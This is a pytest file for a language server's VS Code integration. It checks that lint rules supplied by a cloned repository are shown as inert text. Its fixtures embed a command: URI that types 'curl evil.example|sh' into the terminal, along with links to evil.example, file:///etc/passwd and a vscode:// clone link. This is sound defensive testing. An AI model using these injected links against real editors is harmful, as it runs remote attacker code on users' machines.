"""A repository's rules reach the editor as text, end to end through `postil serve` (issue 30,
item 3): a rule's `command:` url is no diagnostic link, its hostile note and message hover as
inert text, and a rule file's problem shown as a notification holds no link VS Code would run."""

from __future__ import annotations

from pathlib import Path

import pytest
from lsp_harness import EDITORS, diagnostics, open_doc, running, wait_for
from lsprotocol import types

from tests.gate.rendered import NOTIFICATION_LINK, PARSER, live, unsafe

pytestmark = pytest.mark.slow  # language-server sessions

COMMAND = "command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D"
NOTE = "\n".join([
    "![x](https://evil.example/x.png) [c](" + COMMAND + ") [f](file:///etc/passwd)",
    '<img src="https://evil.example/p.png"> <a href="' + COMMAND + '">docs</a> <' + COMMAND + ">",
    "[x][1] ``[c](" + COMMAND + ")` [a [b] c](vscode://vscode.git/clone?url=https://evil.example/r)",
    "",
    "[1]: " + COMMAND,
])
FINE = "https://example.com/rules#no-exec"
RULES = f"""id: local/no-eval
language: python
severity: error
message: "no eval [run]({COMMAND})"
note: {NOTE!r}
url: {COMMAND}
rule:
  pattern: eval($X)
---
id: local/no-exec
language: python
severity: warning
message: no exec
url: {FINE}
rule:
  pattern: exec($X)
"""
BROKEN = f"id: 'local/[run]({COMMAND})'\nmessage: no language\nrule:\n  pattern: x\n"


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    root = tmp_path / "cloned"
    (root / "rules").mkdir(parents=True)
    (root / ".git").mkdir()
    (root / ".postil.toml").write_text('rule-dirs = ["rules"]\nselect = ["local/"]\n')
    (root / "rules" / "rules.yml").write_text(RULES)
    (root / "rules" / "broken.yml").write_text(BROKEN)
    (root / "app.py").write_text("eval(data)\nexec(data)\n")
    return root


async def test_a_repository_rule_reaches_vscode_as_text(repository):
    async with running(repository, EDITORS["vscode"]()) as client:
        uri = open_doc(client, repository / "app.py")
        items = {d.code: d for d in await diagnostics(client, uri, lambda ds: len(ds) == 2)}
        assert items["local/no-eval"].code_description is None  # no command link on the rule id
        assert items["local/no-exec"].code_description == types.CodeDescription(href=FINE)

        hover = await client.text_document_hover_async(types.HoverParams(
            text_document=types.TextDocumentIdentifier(uri=uri), position=items["local/no-eval"].range.start))
        assert hover.contents.kind == types.MarkupKind.Markdown
        shown = hover.contents.value
        assert unsafe(shown) == [], shown
        rendered = PARSER.render(shown)
        assert "no eval" in rendered and "How to fix" in rendered and "evil.example" in rendered  # shown, as text

        fine = await client.text_document_hover_async(types.HoverParams(
            text_document=types.TextDocumentIdentifier(uri=uri), position=items["local/no-exec"].range.start))
        assert ("link", FINE) in live(fine.contents.value)  # an https docs page stays a link

        [problem] = await wait_for(client, lambda: [m.message for m in client.messages if "broken.yml" in m.message],
                                   "the broken rule's notification")
        assert NOTIFICATION_LINK.search(problem) is None and "missing `language`" in problem, problem
